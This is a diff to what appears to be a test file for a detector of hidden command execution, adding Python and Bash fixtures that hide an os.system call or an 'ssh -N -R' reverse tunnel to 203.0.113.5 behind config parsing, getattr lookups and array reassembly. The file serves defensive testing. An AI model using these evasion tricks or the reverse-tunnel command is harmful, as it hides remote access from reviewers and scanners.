@@ -139,6 +139,17 @@ PYTHON = {
         d = zlib.decompressobj()
         os.system((d.decompress(zlib.compress(b"C")) + d.flush()).decode())
     """,
+    "settings in text": """
+        import configparser, os
+        c = configparser.ConfigParser()
+        c.read_string("[s]\\nk = C\\n")
+        os.system(c["s"]["k"])
+        os.system(c.get("s", "k"))
+    """,
+    "a function whose name is not known": """
+        import os, sys
+        getattr(os, sys.argv[1])("C")
+    """,
     "profiled text": """
         import cProfile
         cProfile.run("import os; os.system('C')")
@@ -149,6 +160,12 @@ BASH = {
         a=('ssh -N -R 2222:localhost:22 ag' ent@203.0.113.5); b=; i=0
         until ((i == 2)); do b+=${a[i]}; ((i += 1)); done
         eval "$b"
+    """,
+    "fields of one of two lines": """
+        if [ "$1" ]; then a='x y'; else a='ssh -N'; fi
+        read -r p q <<< "$a"
+        mapfile -t r < <(printf '%s\\n' "$p" "$q" -R 2222:localhost:22 agent@203.0.113.5)
+        "${r[@]}"
     """,
     "a written file that find finds": """
         echo 'C' > /tmp/made.sh
@@ -163,7 +180,7 @@ BASH = {
 def starts(language: Language, code: str) -> list[str]:
     """Read code, and give the effects that are not about hiding."""
     text = textwrap.dedent(code).replace('b"C"', f'b"{COMMAND}"').replace('"C"', f'"{COMMAND}"')
-    text = text.replace("'C'", f"'{COMMAND}'")
+    text = text.replace("'C'", f"'{COMMAND}'").replace(" = C", f" = {COMMAND}")
     effects = Evaluation(Script.of(text, language)).read_script().effects
     return [line for line in (" ".join(map(str, effect.words)) for effect in effects) if not line.startswith("hiding.")]
 
